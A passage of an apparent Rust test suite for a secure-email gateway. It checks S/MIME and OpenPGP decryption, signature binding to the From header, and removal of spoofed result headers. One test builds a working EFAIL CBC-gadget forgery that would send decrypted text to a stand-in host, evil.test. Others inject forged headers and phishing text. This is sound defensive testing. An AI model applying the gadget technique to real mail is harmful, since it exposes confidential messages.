//! The inbound decision with real partners: mail sealed by `openssl cms` and by `gpg` as a
//! partner gateway would send it is opened, verified and delivered with result headers; result
//! headers that arrive from outside are removed; plaintext from a required partner and mail we
//! cannot open are tagged (or quarantined), never dropped.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests: a panic is a failure report

use std::process::Command;
use std::sync::Arc;

use postern_core::{mime, Address, Credential, Domain, SecureEnvelope, Standard};
use postern_openpgp::OpenPgpEnvelope;
use postern_router::{
    normalise_fingerprint, Directory, DomainPattern, Inbound, InboundAction, InboundRouter,
    Partner, PartnerPolicy, QuarantineReason,
};
use postern_smime::SmimeEnvelope;
use postern_tests::{checked, pgp_credential, run_ok, Gpg, KeyKind, PgpKind, Pki};

fn router() -> InboundRouter {
    let backends: Vec<Arc<dyn SecureEnvelope>> = vec![
        Arc::new(SmimeEnvelope::new()),
        Arc::new(OpenPgpEnvelope::new()),
    ];
    InboundRouter::new(backends)
}

fn addr(s: &str) -> Address {
    Address::new(s).unwrap()
}

fn text(i: &Inbound) -> String {
    match i {
        Inbound::Deliver { message, .. } | Inbound::Quarantine { message, .. } => {
            String::from_utf8_lossy(message).into_owned()
        }
    }
}

/// As a partner gateway does it with OpenSSL: sign (opaque, with digest `md`) as `signer`,
/// then encrypt to `to` with `cipher` (an `openssl cms` cipher option).
fn openssl_sign_then_encrypt(
    inner: &[u8],
    signer: &postern_tests::EndEntity,
    md: &str,
    to: &postern_tests::EndEntity,
    cipher: &str,
) -> Vec<u8> {
    let signed = run_ok(
        Command::new("openssl")
            .args(["cms", "-sign", "-nodetach", "-md", md, "-signer"])
            .arg(&signer.cert)
            .arg("-inkey")
            .arg(&signer.key),
        inner,
    );
    run_ok(
        Command::new("openssl")
            .args(["cms", "-encrypt", cipher])
            .arg(&to.cert),
        &signed,
    )
}

const SPOOF: &str = "Postern-Signature: valid signer=ceo@clinic.example\r\n";

/// Our OpenPGP side (`gw@clinic.example` in `us`) and the partner `pgp-partner.test` (its key
/// `gw@pgp-partner.test` in `partner`) under `policy`.
fn pgp_directory(us: &Gpg, partner: &Gpg, policy: PartnerPolicy) -> Directory {
    let mut dir = Directory::default();
    dir.our.domains.push(Domain::new("clinic.example").unwrap());
    let our: Credential = pgp_credential(&us.export_secret("gw@clinic.example"));
    dir.our.credentials.push(our);
    let mut p = Partner::new(
        DomainPattern::Exact(Domain::new("pgp-partner.test").unwrap()),
        policy,
        vec![Standard::OpenPgp],
    );
    p.certificates.insert(
        Standard::OpenPgp,
        vec![partner.export("gw@pgp-partner.test")],
    );
    // The partner's gateway key signs for its whole domain.
    p.gateway_keys
        .push(normalise_fingerprint(&partner.fingerprint("gw@pgp-partner.test")).unwrap());
    dir.partners.push(p);
    dir
}

/// Our side (gw@clinic.example, trusting the test CA) and one required S/MIME partner,
/// `partner.test`, whose gateway certificate `gateway` is pinned.
fn smime_directory(
    pki: &Pki,
    us: &postern_tests::EndEntity,
    gateway: &postern_tests::EndEntity,
) -> Directory {
    let mut dir = Directory::default();
    dir.our.domains.push(Domain::new("clinic.example").unwrap());
    dir.our.credentials.push(us.credential());
    dir.our.trust_anchors.push(pki.ca_pem());
    let mut p = Partner::new(
        DomainPattern::Exact(Domain::new("partner.test").unwrap()),
        PartnerPolicy::Required,
        vec![Standard::Smime],
    );
    p.certificates
        .insert(Standard::Smime, vec![gateway.cert_pem()]);
    p.gateway_keys
        .push(normalise_fingerprint(&gateway.fingerprint()).unwrap());
    dir.partners.push(p);
    dir
}

#[test]
fn smime_from_a_partner_gateway_is_opened_verified_and_spoofing_removed() {
    let pki = Pki::new();
    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
    let partner = pki.issue("gw@partner.test", KeyKind::Rsa(2048));
    let stranger = pki.issue("gw@other.test", KeyKind::Rsa(2048));
    let dir = smime_directory(&pki, &us, &partner);

    let inner = b"From: doc@partner.test\r\nTo: records@clinic.example\r\nSubject: referral\r\nContent-Type: text/plain\r\n\r\nPlease see the patient on Monday.\r\n";
    // As the partner gateway does it: sign, then encrypt to us, with OpenSSL.
    let sign_then_encrypt = |signer: &postern_tests::EndEntity| {
        let enc = openssl_sign_then_encrypt(inner, signer, "sha256", &us, "-aes-256-cbc");
        // A forged result header on the outside, as an attacker would add it.
        [SPOOF.as_bytes(), &enc].concat()
    };
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let got = rt.block_on(router().inbound(
        &checked(&dir),
        Some(&addr("doc@partner.test")),
        &sign_then_encrypt(&partner),
    ));
    let t = text(&got);
    assert!(matches!(
        got,
        Inbound::Deliver {
            report: Some(_),
            verdict: postern_core::SignatureVerdict::Valid,
            ..
        }
    ));
    assert!(t.contains("Postern-Decrypted: smime aes256-cbc"), "{t}");
    assert!(
        t.contains("Postern-Signature: valid signer=gw@partner.test\r\n"),
        "{t}"
    );
    assert!(
        !t.contains("ceo@clinic.example"),
        "spoofed header removed: {t}"
    );
    assert!(t.contains("Please see the patient on Monday."));

    // Signed by a valid certificate of another organisation: not a valid signature for this sender.
    let got = rt.block_on(router().inbound(
        &checked(&dir),
        Some(&addr("doc@partner.test")),
        &sign_then_encrypt(&stranger),
    ));
    let t = text(&got);
    assert!(
        t.contains("Postern-Signature: untrusted") || t.contains("Postern-Signature: invalid"),
        "{t}"
    );
    assert!(!t.contains("Postern-Signature: valid"), "{t}");

    // Encrypted to someone else (a user's own end-to-end mail): delivered as is with a header
    // saying why (never dropped)...
    let other = pki.issue("x@clinic.example", KeyKind::Rsa(2048));
    let enc = run_ok(
        Command::new("openssl")
            .args(["cms", "-encrypt", "-aes-256-cbc"])
            .arg(&other.cert),
        inner,
    );
    let got = rt.block_on(router().inbound(&checked(&dir), Some(&addr("doc@partner.test")), &enc));
    assert!(
        text(&got).starts_with("Postern-Decrypted: no (smime: encrypted to other keys)\r\n"),
        "{}",
        text(&got)
    );
    // ...or quarantined when so configured.
    let mut r = router();
    r.policy.not_for_us = InboundAction::Quarantine;
    assert!(matches!(
        rt.block_on(r.inbound(&checked(&dir), Some(&addr("doc@partner.test")), &enc)),
        Inbound::Quarantine { .. }
    ));

    // Plaintext from the required partner: tagged by default, quarantined if configured.
    let plain = [SPOOF.as_bytes(), inner].concat();
    let got =
        rt.block_on(router().inbound(&checked(&dir), Some(&addr("doc@partner.test")), &plain));
    let t = text(&got);
    assert!(
        t.starts_with("Postern-Warning: plaintext from a partner that must encrypt\r\n"),
        "{t}"
    );
    assert!(!t.contains("ceo@clinic.example"));
    let mut r = router();
    r.policy.plaintext_from_required = InboundAction::Quarantine;
    assert!(matches!(
        rt.block_on(r.inbound(&checked(&dir), Some(&addr("doc@partner.test")), &plain)),
        Inbound::Quarantine { .. }
    ));
    // Signed but not encrypted, from the partner that must encrypt (a review found it passed
    // without a mark once an empty SignedData opened as unsigned content): plaintext all the
    // same, tagged by default, quarantined if configured; the signature still verifies.
    let signed_only = run_ok(
        Command::new("openssl")
            .args(["cms", "-sign", "-nodetach", "-signer"])
            .arg(&partner.cert)
            .arg("-inkey")
            .arg(&partner.key),
        inner,
    );
    let signed_only = [SPOOF.as_bytes(), &signed_only].concat();
    let got = rt.block_on(router().inbound(
        &checked(&dir),
        Some(&addr("doc@partner.test")),
        &signed_only,
    ));
    let t = text(&got);
    assert!(
        t.contains("Postern-Warning: plaintext from a partner that must encrypt\r\n")
            && t.contains("Postern-Decrypted: no"),
        "{t}"
    );
    let mut r = router();
    r.policy.plaintext_from_required = InboundAction::Quarantine;
    assert!(matches!(
        rt.block_on(r.inbound(
            &checked(&dir),
            Some(&addr("doc@partner.test")),
            &signed_only
        )),
        Inbound::Quarantine {
            reason: postern_router::QuarantineReason::PlaintextFromRequired,
            ..
        }
    ));
    // Plaintext from anyone else: delivered, forged result header gone.
    let got =
        rt.block_on(router().inbound(&checked(&dir), Some(&addr("someone@gmail.test")), &plain));
    let t = text(&got);
    assert!(!t.contains("Postern-"), "{t}");
}

#[test]
fn pgp_mime_from_a_gpg_partner_is_opened_and_verified() {
    let us = Gpg::new();
    us.generate("Clinic <gw@clinic.example>", PgpKind::Ed25519, "never");
    let partner = Gpg::new();
    partner.generate("Partner <gw@pgp-partner.test>", PgpKind::Rsa3072, "never");
    partner.import(&us.export("gw@clinic.example"));
    let dir = pgp_directory(&us, &partner, PartnerPolicy::Required);

    let entity = b"From: doc@pgp-partner.test\r\nSubject: results\r\nContent-Type: text/plain\r\n\r\nPotassium 4.1 mmol/L.\r\n";
    let armored = partner.ok(
        &[
            "--armor",
            "--sign",
            "--encrypt",
            "-u",
            "gw@pgp-partner.test",
            "-r",
            "gw@clinic.example",
        ],
        entity,
    );
    let mail = mime::multipart(
        format!("{SPOOF}From: doc@pgp-partner.test\r\nTo: records@clinic.example\r\nSubject: results\r\n").as_bytes(),
        "multipart/encrypted; protocol=\"application/pgp-encrypted\"",
        "",
        &[b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n", &[b"Content-Type: application/octet-stream\r\n\r\n".as_slice(), &armored].concat()],
    );
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let got =
        rt.block_on(router().inbound(&checked(&dir), Some(&addr("doc@pgp-partner.test")), &mail));
    let t = text(&got);
    assert!(t.contains("Postern-Decrypted: openpgp"), "{t}");
    assert!(
        t.contains("Postern-Signature: valid signer=gw@pgp-partner.test\r\n"),
        "{t}"
    );
    assert!(!t.contains("ceo@clinic.example"), "{t}");
    assert!(t.contains("Potassium 4.1 mmol/L."));
}

/// Issue 14.3: a signature is `valid` only when its signer speaks for the From the reader sees.
/// Partner mail signed and encrypted by OpenSSL with a person's CA-issued certificate (not the
/// pinned gateway key) and with the partner's pinned gateway key, under many From headers.
#[test]
fn a_valid_signature_is_bound_to_the_from_header() {
    let pki = Pki::new();
    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
    let gateway = pki.issue("gw@partner.test", KeyKind::Rsa(2048));
    let alice = pki.issue("alice@partner.test", KeyKind::Rsa(2048));
    // Eve's own certificate is pinned too, as a person's key (not declared a gateway key).
    let eve = pki.issue("eve@partner.test", KeyKind::Rsa(2048));
    let mut dir = smime_directory(&pki, &us, &gateway);
    dir.partners[0]
        .certificates
        .get_mut(&Standard::Smime)
        .unwrap()
        .push(eve.cert_pem());
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let sealed = |signer: &postern_tests::EndEntity, from_lines: &str| {
        let inner = format!(
            "{from_lines}To: records@clinic.example\r\nSubject: referral\r\nContent-Type: text/plain\r\n\r\nPlease see the patient.\r\n"
        );
        let enc =
            openssl_sign_then_encrypt(inner.as_bytes(), signer, "sha256", &us, "-aes-256-cbc");
        // A gateway keeps the routing fields outside, as we do.
        [from_lines.as_bytes(), &enc].concat()
    };
    let verdict = |mail_from: Option<&str>, msg: &[u8]| {
        let from = mail_from.map(addr);
        let t = text(&rt.block_on(router().inbound(&checked(&dir), from.as_ref(), msg)));
        let line = t
            .lines()
            .find(|l| l.starts_with("Postern-Signature: "))
            .unwrap_or_else(|| panic!("no verdict: {t}"))
            .to_string();
        (line, t)
    };
    let cases: &[(&str, &postern_tests::EndEntity, &str, Option<&str>)] = &[
        (
            "the signer's own address",
            &alice,
            "From: Alice <alice@partner.test>\r\n",
            Some("valid"),
        ),
        (
            "another person at the partner",
            &alice,
            "From: bob@partner.test\r\n",
            Some("untrusted"),
        ),
        (
            "our own CEO",
            &alice,
            "From: ceo@clinic.example\r\n",
            Some("invalid"),
        ),
        ("no From", &alice, "", Some("untrusted")),
        ("an empty From", &alice, "From: \r\n", Some("untrusted")),
        (
            "two From fields",
            &alice,
            "From: alice@partner.test\r\nFrom: ceo@clinic.example\r\n",
            Some("untrusted"),
        ),
        (
            "two mailboxes",
            &alice,
            "From: alice@partner.test, ceo@clinic.example\r\n",
            Some("untrusted"),
        ),
        (
            "a group",
            &alice,
            "From: team: alice@partner.test;\r\n",
            Some("untrusted"),
        ),
        (
            "a pinned person's key for herself",
            &eve,
            "From: eve@partner.test\r\n",
            Some("valid"),
        ),
        (
            "a pinned person's key for another person (the Johnny-class forgery)",
            &eve,
            "From: manager@partner.test\r\n",
            Some("untrusted"),
        ),
        (
            "the gateway for its domain",
            &gateway,
            "From: doc@partner.test\r\n",
            Some("valid"),
        ),
        (
            "the gateway for us",
            &gateway,
            "From: ceo@clinic.example\r\n",
            Some("invalid"),
        ),
    ];
    for (name, signer, from, want) in cases {
        let msg = sealed(signer, from);
        for mail_from in [Some("doc@partner.test"), None] {
            let (line, t) = verdict(mail_from, &msg);
            let want = want.unwrap();
            assert!(
                line.starts_with(&format!("Postern-Signature: {want}")),
                "{name} (MAIL FROM {mail_from:?}): {line}\n{t}"
            );
            if want != "valid" {
                assert!(t.contains("Postern-Signature-Problem: "), "{name}: {t}");
            }
            assert!(
                t.contains("Postern-Signature-Covers: body and from, to, subject")
                    || from.is_empty(),
                "{name}: {t}"
            );
        }
    }

    // Signed only (detached, as a sign-only gateway sends it: the MIME fields inside, every
    // other field outside), then replayed with a new From and Subject.
    let entity = b"Content-Type: text/plain\r\n\r\nTransfer approved.\r\n";
    let signed = run_ok(
        Command::new("openssl")
            .args(["cms", "-sign", "-signer"])
            .arg(&alice.cert)
            .arg("-inkey")
            .arg(&alice.key),
        entity,
    );
    let with_head = |head: &str| [head.as_bytes(), &signed].concat();
    let (line, t) = verdict(
        Some("alice@partner.test"),
        &with_head("From: alice@partner.test\r\nTo: records@clinic.example\r\nSubject: lunch\r\n"),
    );
    assert!(line.starts_with("Postern-Signature: valid"), "{t}");
    assert!(
        t.contains("Postern-Signature-Covers: body (no header fields"),
        "the reader is told the Subject is not signed: {t}"
    );
    let (line, t) = verdict(
        None,
        &with_head(
            "From: ceo@clinic.example\r\nTo: records@clinic.example\r\nSubject: APPROVED\r\n",
        ),
    );
    assert!(
        line.starts_with("Postern-Signature: invalid"),
        "replayed as another sender: {t}"
    );
}

/// Issue 14.3: an inline PGP signed block inside unsigned text: the unsigned text stays
/// visible, and the result says that only part was signed.
#[test]
fn inline_pgp_with_unsigned_text_around_is_partial() {
    let us = Gpg::new();
    us.generate("Clinic <gw@clinic.example>", PgpKind::Ed25519, "never");
    let partner = Gpg::new();
    partner.generate("Partner <gw@pgp-partner.test>", PgpKind::Ed25519, "never");
    let dir = pgp_directory(&us, &partner, PartnerPolicy::Preferred);
    let signed = partner.ok(
        &["--clearsign", "-u", "gw@pgp-partner.test"],
        b"The results are normal.\n",
    );
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let msg_with = |before: &str, after: &str| {
        format!(
            "From: gw@pgp-partner.test\r\nTo: records@clinic.example\r\nSubject: r\r\nContent-Type: text/plain\r\n\r\n{before}{}{after}",
            String::from_utf8_lossy(&signed)
        )
        .into_bytes()
    };
    let from = addr("gw@pgp-partner.test");
    let t = text(&rt.block_on(router().inbound(&checked(&dir), Some(&from), &msg_with("", ""))));
    assert!(t.contains("Postern-Signature: valid"), "{t}");
    let t = text(&rt.block_on(router().inbound(
        &checked(&dir),
        Some(&from),
        &msg_with(
            "URGENT: wire the money today.\n\n",
            "\nAlso send the passwords.\n",
        ),
    )));
    assert!(t.contains("Postern-Signature: partial"), "{t}");
    assert!(
        t.contains("Postern-Signature-Problem: only part of the body is signed"),
        "{t}"
    );
    assert!(
        t.contains("URGENT: wire the money today."),
        "unsigned text stays visible: {t}"
    );
    assert!(t.contains("Also send the passwords."), "{t}");
    assert!(t.contains("The results are normal."), "{t}");
}

/// Issue 14.15: EFAIL through the gateway. A real OpenSSL AES-CBC message to us, captured and
/// rewritten with CBC gadgets (Poddebniak et al., USENIX Security 2018): chosen 16-byte blocks
/// appended after the text, here an `<img src="http:/…">` that would send the decrypted text
/// to the attacker when rendered. It still decrypts (OpenSSL and our backend both accept it),
/// so the gateway must not deliver it as HTML: quarantined from a required partner, text only
/// (no HTML, no links) from anyone else. AES-GCM is not malleable and passes as it is.
#[test]
fn cbc_gadget_rewritten_mail_never_reaches_the_reader_as_html() {
    use cms::content_info::ContentInfo;
    use cms::enveloped_data::EnvelopedData;
    use der::asn1::OctetString;
    use der::{Decode, Encode};

    let pki = Pki::new();
    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
    let gw = pki.issue("gw@partner.test", KeyKind::Rsa(2048));
    let dir = smime_directory(&pki, &us, &gw);

    let inner = b"Content-Type: text/html; charset=us-ascii\r\n\r\n<html><body><p>HIV test: positive</p></body></html>\r\n";
    let der = run_ok(
        Command::new("openssl")
            .args([
                "cms",
                "-encrypt",
                "-aes-256-cbc",
                "-binary",
                "-outform",
                "DER",
            ])
            .arg(&us.cert),
        inner,
    );
    // The gadget: for a chosen block X, the pair (IV ^ P1 ^ X, C1) decrypts to (garbage, X).
    let mut ci = ContentInfo::from_der(&der).unwrap();
    let mut ed: EnvelopedData = ci.content.decode_as().unwrap();
    let params = ed
        .encrypted_content
        .content_enc_alg
        .parameters
        .clone()
        .unwrap();
    let iv: OctetString = params.decode_as().unwrap();
    let iv = iv.as_bytes().to_vec();
    let ct = ed
        .encrypted_content
        .encrypted_content
        .clone()
        .unwrap()
        .as_bytes()
        .to_vec();
    let c1 = &ct[..16];
    let p1 = &inner[..16];
    let gadget = |x: &[u8; 16]| -> Vec<u8> {
        let g: Vec<u8> = (0..16).map(|i| iv[i] ^ p1[i] ^ x[i]).collect();
        [g.as_slice(), c1].concat()
    };
    let mut forged = ct.clone();
    forged.extend(gadget(b"<img src=\"http:/"));
    forged.extend(gadget(b"/evil.test/?a\">\x01"));
    ed.encrypted_content.encrypted_content = Some(OctetString::new(forged).unwrap());
    ci.content = der::Any::encode_from(&ed).unwrap();
    let forged_der = ci.to_der().unwrap();
    let mail = |from: &str| {
        let mut m = format!(
            "From: {from}\r\nTo: records@clinic.example\r\nSubject: results\r\nMIME-Version: 1.0\r\n\
             Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n"
        )
        .into_bytes();
        m.extend_from_slice(&postern_core::mime::base64_lines(&forged_der));
        m
    };
    // The attack is real: OpenSSL decrypts the rewritten message without complaint.
    let by_openssl = us.openssl_decrypt(&mail("doc@partner.test"));
    assert!(
        String::from_utf8_lossy(&by_openssl).contains("<img src=\"http:/"),
        "the gadget must work for the test to mean anything"
    );

    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    // From a required partner: held.
    let got = rt.block_on(router().inbound(
        &checked(&dir),
        Some(&addr("doc@partner.test")),
        &mail("doc@partner.test"),
    ));
    assert!(
        matches!(
            &got,
            Inbound::Quarantine {
                reason: QuarantineReason::UnsignedCbc,
                ..
            }
        ),
        "{}",
        text(&got)
    );
    // From anyone else: its text only.
    let got = rt.block_on(router().inbound(
        &checked(&dir),
        Some(&addr("x@gmail.test")),
        &mail("x@gmail.test"),
    ));
    let t = text(&got);
    // The typed verdict travels with the decision and says what the header says.
    assert!(
        matches!(
            got,
            Inbound::Deliver {
                verdict: postern_core::SignatureVerdict::Absent,
                ..
            }
        ),
        "{t}"
    );
    assert!(t.contains("Postern-Signature: absent"), "{t}");
    assert!(t.contains("Postern-Content: text only"), "{t}");
    assert!(
        t.contains("HIV test: positive"),
        "the text is still delivered: {t}"
    );
    for bad in ["<img", "http:", "evil.test", "text/html"] {
        assert!(!t.contains(bad), "{bad} reached the reader: {t}");
    }

    // AES-GCM (AuthEnvelopedData) cannot be rewritten unnoticed: delivered as sent.
    let gcm = run_ok(
        Command::new("openssl")
            .args(["cms", "-encrypt", "-aes-256-gcm", "-binary"])
            .arg(&us.cert),
        inner,
    );
    let gcm_mail = [
        b"From: x@gmail.test\r\nTo: records@clinic.example\r\n".as_slice(),
        &gcm,
    ]
    .concat();
    let t = text(&rt.block_on(router().inbound(
        &checked(&dir),
        Some(&addr("x@gmail.test")),
        &gcm_mail,
    )));
    assert!(t.contains("Postern-Decrypted: smime aes256-gcm"), "{t}");
    assert!(t.contains("<p>HIV test: positive</p>"), "{t}");
    assert!(!t.contains("Postern-Content: text only"), "{t}");
}

/// Issue 14.14: a partner gateway that still sends 3DES and SHA-1 (OpenSSL makes such a
/// message here) is read only when its entry allows it, the result is marked weak, and what we
/// send it stays AES.
#[test]
fn legacy_algorithms_are_accepted_per_partner_receive_only_and_marked_weak() {
    let pki = Pki::new();
    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
    let gw = pki.issue("gw@legacy.test", KeyKind::Rsa(2048));
    let inner = b"From: doc@legacy.test\r\nTo: records@clinic.example\r\nSubject: old system\r\nContent-Type: text/plain\r\n\r\nSent by a 2009 gateway.\r\n";
    let sealed = openssl_sign_then_encrypt(inner, &gw, "sha1", &us, "-des3");
    let mail = [b"From: doc@legacy.test\r\n".as_slice(), &sealed].concat();
    let directory = |legacy: &str| {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::write(tmp.path().join("gw.pem"), gw.cert_pem()).unwrap();
        std::fs::write(tmp.path().join("us.pem"), us.cert_pem()).unwrap();
        std::fs::copy(&us.key, tmp.path().join("us.key")).unwrap();
        std::fs::write(tmp.path().join("ca.pem"), pki.ca_pem()).unwrap();
        let toml = format!(
            "[our]\ndomains = [\"clinic.example\"]\ntrust_anchors = [\"ca.pem\"]\n\
             [[our.keys]]\nstandard = \"smime\"\ncertificate = \"us.pem\"\nkey = \"us.key\"\n\
             [[partner]]\ndomain = \"legacy.test\"\nstandards = [\"smime\"]\npolicy = \"required\"\n\
             smime_certificates = [\"gw.pem\"]\ngateway_keys = [\"{fpr}\"]\n{legacy}\n",
            fpr = gw.fingerprint()
        );
        let path = tmp.path().join("directory.toml");
        std::fs::write(&path, toml).unwrap();
        (Directory::load(&path), tmp)
    };
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let from = addr("doc@legacy.test");

    let (dir, _t) = directory("accept_legacy = [\"3des\", \"sha1\"]");
    let dir = dir.unwrap();
    let got = rt.block_on(router().inbound(&checked(&dir), Some(&from), &mail));
    let t = text(&got);
    assert!(matches!(got, Inbound::Deliver { .. }), "{t}");
    assert!(t.contains("Postern-Decrypted: smime 3des-cbc"), "{t}");
    assert!(t.contains("weak: a legacy cipher"), "{t}");
    assert!(
        t.contains("Postern-Signature: weak signer=gw@legacy.test"),
        "{t}"
    );
    assert!(t.contains("Sent by a 2009 gateway."), "{t}");

    // Without the exception: refused by name and held (it was for us: never relayed as it
    // came), never opened quietly.
    let refused = |legacy: &str| {
        let (dir, _t) = directory(legacy);
        match rt.block_on(router().inbound(&checked(&dir.unwrap()), Some(&from), &mail)) {
            Inbound::Quarantine {
                reason: QuarantineReason::CannotOpen { error, .. },
                ..
            } => error,
            other => panic!("not held: {}", text(&other)),
        }
    };
    let why = refused("");
    assert!(
        why.contains("3des"),
        "the reason names the algorithm: {why}"
    );
    // SHA-1 allowed but not 3DES: still refused.
    refused("accept_legacy = [\"sha1\"]");
    // An algorithm that is never accepted is a directory error with its line.
    let (dir, _t) = directory("accept_legacy = [\"rc2\"]");
    let e = dir.unwrap_err().to_string();
    assert!(e.contains("rc2") && e.contains("line"), "{e}");

    // What we send this partner is AES, whatever it may send us.
    let (dir, _t) = directory("accept_legacy = [\"3des\", \"sha1\"]");
    let dir = dir.unwrap();
    let out = rt.block_on(
        postern_router::Router::new(vec![Arc::new(SmimeEnvelope::new())]).outbound(
            &checked(&dir),
            &postern_router::Envelope {
                mail_from: Some(addr("ada@clinic.example")),
                rcpt_to: vec![addr("doc@legacy.test")],
            },
            b"From: ada@clinic.example\r\nTo: doc@legacy.test\r\nSubject: x\r\n\r\nhi\r\n",
            None,
        ),
    );
    let [postern_router::Disposition::Deliver { message, .. }] = &out[..] else {
        panic!("{out:?}");
    };
    let printed = run_ok(
        Command::new("openssl").args(["cms", "-cmsout", "-print"]),
        message,
    );
    let printed = String::from_utf8_lossy(&printed);
    assert!(printed.contains("aes-256-cbc"), "{printed}");
    assert!(!printed.contains("des-ede3"), "{printed}");
}

/// RFC 3183 name mapping with a real signature (OpenSSL signs and encrypts, as a partner's
/// gateway does): the partner's `domain-signing-authority@partner.test`, not declared a gateway
/// key, speaks for every address of partner.test; a person's certificate of the same domain
/// does not speak for a colleague.
#[test]
fn a_partner_s_domain_signing_authority_speaks_for_its_domain() {
    let pki = Pki::new();
    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
    let gateway = pki.issue("gw@partner.test", KeyKind::Rsa(2048));
    let authority = pki.issue("domain-signing-authority@partner.test", KeyKind::Rsa(2048));
    let person = pki.issue("eve@partner.test", KeyKind::Rsa(2048));
    let dir = smime_directory(&pki, &us, &gateway);
    let inner = b"From: doc@partner.test\r\nTo: records@clinic.example\r\nSubject: referral\r\n\r\nSee the patient on Monday.\r\n";
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let verdict = |signer: &postern_tests::EndEntity, from: &str| {
        let body = String::from_utf8_lossy(inner).replace("doc@partner.test", from);
        let mail =
            openssl_sign_then_encrypt(body.as_bytes(), signer, "sha256", &us, "-aes-256-gcm");
        let got = rt.block_on(router().inbound(&checked(&dir), Some(&addr(from)), &mail));
        let t = text(&got);
        match got {
            Inbound::Deliver { verdict, .. } => (verdict, t),
            other => panic!("{other:?}"),
        }
    };
    // The authority: valid, and the reader is told no person signed.
    let (v, t) = verdict(&authority, "doc@partner.test");
    assert_eq!(v, postern_core::SignatureVerdict::Valid);
    assert!(
        t.contains("Postern-Signature-Detail: domain (the sending organisation signed"),
        "{t}"
    );
    // A person of the domain for a colleague: untrusted.
    assert_eq!(
        verdict(&person, "doc@partner.test").0,
        postern_core::SignatureVerdict::Untrusted
    );
    // The same person for their own mail: valid, and no domain detail (a person signed).
    let (v, t) = verdict(&person, "eve@partner.test");
    assert_eq!(v, postern_core::SignatureVerdict::Valid);
    assert!(!t.contains("Signature-Detail"), "{t}");
}

/// A wrapped message (`message/rfc822` as the protected content, as Direct HISPs send every
/// message and RFC 8551 §3.1 allows): delivered as the message inside, whose header section
/// was the signed one, so the signer is bound to the inner From — an outer From in the
/// signer's name does not make a wrapped "From: our CEO" valid. A wrapper that cannot be read
/// as a message is held with its reason, never delivered.
#[test]
fn a_wrapped_message_is_delivered_as_the_message_inside_and_bound_to_its_from() {
    let pki = Pki::new();
    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
    let gateway = pki.issue("gw@partner.test", KeyKind::Rsa(2048));
    let alice = pki.issue("alice@partner.test", KeyKind::Rsa(2048));
    let dir = smime_directory(&pki, &us, &gateway);
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let inbound = |inner_from: &str, cte: &str| {
        let inner = format!(
            "From: {inner_from}\r\nTo: records@clinic.example\r\nSubject: Referral for J. Doe\r\n\
             Content-Type: text/plain\r\n\r\nPlease see the patient.\r\n"
        );
        let wrapper = format!("Content-Type: message/rfc822\r\n{cte}\r\n{inner}");
        let enc =
            openssl_sign_then_encrypt(wrapper.as_bytes(), &alice, "sha256", &us, "-aes-256-cbc");
        // Outside: only routing fields, in the signer's own name.
        let msg = [
            b"From: alice@partner.test\r\nTo: records@clinic.example\r\n".as_slice(),
            &enc,
        ]
        .concat();
        rt.block_on(router().inbound(&checked(&dir), Some(&addr("alice@partner.test")), &msg))
    };
    let got = inbound("Alice <alice@partner.test>", "");
    let t = text(&got);
    assert!(matches!(got, Inbound::Deliver { .. }), "{t}");
    let view = postern_core::MessageView::parse(t.as_bytes()).unwrap();
    assert_eq!(
        view.header("subject").unwrap().trim(),
        "Referral for J. Doe"
    );
    assert_eq!(view.root().mime_type(), "text/plain", "{t}");
    assert!(!t.to_ascii_lowercase().contains("message/rfc822"), "{t}");
    assert!(t.contains("Postern-Signature: valid"), "{t}");
    assert!(
        t.contains("Postern-Signature-Covers: body and from, to, subject"),
        "the inner fields were signed: {t}"
    );
    assert!(t.ends_with("Please see the patient.\r\n"), "{t}");

    let t = text(&inbound("ceo@clinic.example", ""));
    assert!(t.contains("Postern-Signature: invalid"), "{t}");
    assert_eq!(
        postern_core::MessageView::parse(t.as_bytes())
            .unwrap()
            .header("from")
            .unwrap()
            .trim(),
        "ceo@clinic.example",
        "the reader sees the inner From, and the verdict is about it: {t}"
    );

    match inbound(
        "alice@partner.test",
        "Content-Transfer-Encoding: x-uuencode\r\n",
    ) {
        Inbound::Quarantine { reason, .. } => assert!(
            matches!(reason, QuarantineReason::BadWrapper(_)),
            "{reason}"
        ),
        other => panic!("delivered: {}", text(&other)),
    }
}

/// A message encrypted to our key that does not open (here its encrypted key damaged) was for
/// us: it is held whatever the policy for mail encrypted to others says, never relayed as it
/// came (draft-ramsdell-enc-smime-gateway §5.2 step 2); a user's own end-to-end mail, encrypted
/// to none of our keys, is relayed equal to the input but for one result line.
#[test]
fn mail_for_us_that_does_not_open_is_held_and_mail_for_others_passes_unchanged() {
    let pki = Pki::new();
    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
    let gateway = pki.issue("gw@partner.test", KeyKind::Rsa(2048));
    let user = pki.issue("nurse@clinic.example", KeyKind::Rsa(2048));
    let dir = smime_directory(&pki, &us, &gateway);
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let inner =
        b"From: doc@partner.test\r\nTo: nurse@clinic.example\r\nSubject: x\r\n\r\nResults.\r\n";
    let to = |cert: &std::path::Path| {
        run_ok(
            Command::new("openssl")
                .args(["cms", "-encrypt", "-aes-256-cbc", "-outform", "DER"])
                .arg(cert),
            inner,
        )
    };
    let smime = |der: &[u8]| {
        format!(
            "From: doc@partner.test\r\nTo: nurse@clinic.example\r\nMIME-Version: 1.0\r\n\
